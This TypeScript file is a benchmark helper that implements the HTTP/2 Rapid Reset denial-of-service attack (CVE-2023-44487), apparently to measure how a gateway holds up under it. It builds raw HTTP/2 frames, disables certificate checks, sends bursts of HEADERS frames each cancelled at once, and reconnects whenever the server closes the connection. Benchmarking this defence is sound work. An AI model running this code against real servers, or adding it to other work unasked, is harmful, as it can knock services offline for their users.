/**
 * The abuser of bench/gateway-abuse.ts, in its own process so its work does not share the measuring client's event
 * loop. It speaks HTTP/2 frames itself over TLS (ALPN h2), because the attack of CVE-2023-44487 is a HEADERS frame
 * followed at once by RST_STREAM(CANCEL) — a reset stream no longer counts against SETTINGS_MAX_CONCURRENT_STREAMS,
 * which is what a well-behaved client library (Node's included) would wait for. `burst` streams per `burstMs`, for
 * `seconds`; a connection the server closes is replaced at once, as a real abuser would.
 * Prints `ready` once connected, then one JSON line: streams sent, connections used, GOAWAY frames received.
 * Usage: node --import tsx bench/_rapid-reset-abuser.ts URL SERVERNAME SECONDS BURST BURST_MS
 */
import { connect, type TLSSocket } from 'node:tls';

const [url, servername, seconds, burst, burstMs] = process.argv.slice(2);
const { hostname, port } = new URL(url);
let streams = 0;
let connections = 0;
let goaways = 0;

const frame = (type: number, flags: number, stream: number, payload: Buffer) => {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head[3] = type;
  head[4] = flags;
  head.writeUInt32BE(stream, 5);
  return Buffer.concat([head, payload]);
};
/** HPACK (RFC 7541): indexed :method GET (2) and :scheme https (7); literal :path (4) and :authority (1). */
const literal = (index: number, value: string) =>
  Buffer.concat([Buffer.from([index, value.length]), Buffer.from(value, 'latin1')]);
const headers = (path: string) =>
  Buffer.concat([Buffer.from([0x82, 0x87]), literal(0x04, path), literal(0x01, servername)]);
const cancel = Buffer.from([0, 0, 0, 8]);

interface Conn {
  socket: TLSSocket;
  next: number;
  closed: boolean;
}
function open(): Promise<Conn> {
  connections++;
  return new Promise((resolve) => {
    const socket = connect({
      host: hostname,
      port: Number(port),
      servername,
      ALPNProtocols: ['h2'],
      rejectUnauthorized: false,
    });
    const c: Conn = { socket, next: 1, closed: false };
    let pending = Buffer.alloc(0);
    socket.on('data', (d: Buffer) => {
      pending = Buffer.concat([pending, d]);
      while (pending.length >= 9) {
        const len = pending.readUIntBE(0, 3);
        if (pending.length < 9 + len) break;
        if (pending[3] === 0x7) goaways++;
        if (pending[3] === 0x4 && !(pending[4] & 1)) socket.write(frame(0x4, 1, 0, Buffer.alloc(0)));
        pending = pending.subarray(9 + len);
      }
    });
    socket.on('error', () => undefined);
    socket.on('close', () => (c.closed = true));
    socket.on('secureConnect', () => {
      socket.write(
        Buffer.concat([Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'), frame(0x4, 0, 0, Buffer.alloc(0))]),
      );
      resolve(c);
    });
  });
}

let conn = await open();
process.stdout.write('ready\n');
const until = Date.now() + Number(seconds) * 1000;
while (Date.now() < until) {
  const started = Date.now();
  for (let i = 0; i < Number(burst); i++) {
    if (conn.closed) conn = await open();
    const id = conn.next;
    conn.next += 2;
    conn.socket.write(
      Buffer.concat([frame(0x1, 0x5, id, headers(`/api/abuse/${streams++}`)), frame(0x3, 0, id, cancel)]),
    );
    if (i % 100 === 99) await new Promise((r) => setImmediate(r));
  }
  const left = Number(burstMs) - (Date.now() - started);
  if (left > 0) await new Promise((r) => setTimeout(r, left));
}
conn.socket.destroy();
process.stdout.write(`${JSON.stringify({ streams, connections, goaways })}\n`);
process.exit(0);
